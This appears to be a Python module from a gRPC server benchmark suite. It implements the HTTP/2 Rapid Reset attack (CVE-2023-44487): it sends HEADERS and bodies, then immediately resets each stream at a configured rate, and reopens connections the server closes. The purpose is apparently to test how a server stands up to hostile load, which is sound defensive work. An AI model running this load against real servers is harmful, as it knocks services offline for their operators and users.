"""Calls that are cancelled by a RST_STREAM right behind their last byte (CVE-2023-44487)."""

import time
from collections import Counter
from dataclasses import dataclass

from benchmarks.attack.hostile_load import HostileCalls, Target
from benchmarks.attack.http2_frames import (
    Connection,
    headers_frame,
    message_prefix,
    open_connection,
    reset_frame,
)
from benchmarks.attack.paced_calls import Message
from benchmarks.overload.grpc_callers import sleep_until

_STEP_SECONDS = 0.010
_RESET, _WITHOUT_BODY, _CONNECTIONS = "reset", "reset without body", "connections"


@dataclass(frozen=True, slots=True)
class RapidResets:
    """Implements `HostileLoad`; opens a new connection whenever the server closes one.

    Attributes:
        message: of each call, below 16 kB; a call that the server grants no body is reset without one.
        rate: calls a second.
    """

    message: Message
    rate: float

    async def send(self, target: Target, seconds: float) -> HostileCalls:
        """See `HostileLoad`."""
        moment = time.monotonic()
        end, ended = moment + seconds, Counter[str]()
        while moment < end:
            ended[_CONNECTIONS] += 1
            async with open_connection(target.address) as connection:
                moment = await self._reset_until(end, connection, target, ended)
        return HostileCalls(moment, ended)

    async def _reset_until(self, end: float, connection: Connection, target: Target, ended: Counter[str]) -> float:
        """Returns when the last calls were sent: at the end, or as the server closed the connection."""
        stream, moment, each_step = 1, time.monotonic(), round(self.rate * _STEP_SECONDS)
        body = message_prefix(len(self.message.content)) + self.message.content
        while moment < end and not connection.closed.done():
            for _ in range(each_step):
                connection.write(headers_frame(stream, self.message.path, target.metadata))
                ended[_RESET if connection.try_write_body(stream, body) else _WITHOUT_BODY] += 1
                connection.write(reset_frame(stream))
                stream += 2
            await sleep_until(moment := moment + _STEP_SECONDS)
        return time.monotonic()
